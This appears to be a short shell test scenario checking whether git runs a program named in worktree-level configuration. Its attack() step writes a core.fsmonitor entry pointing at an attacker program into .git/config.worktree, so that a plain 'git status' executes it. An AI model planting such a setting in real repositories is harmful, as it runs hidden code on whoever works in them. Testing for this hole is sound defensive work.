# The main checkout's own configuration (`extensions.worktreeConfig`) names a program.
prepare() {
    git config extensions.worktreeConfig true
}
attack() {
    evil
    printf "[core]\n\tfsmonitor = %s\n" "$EVIL" >>.git/config.worktree
}
human() {
    git status
}
harmed() {
    executed
}
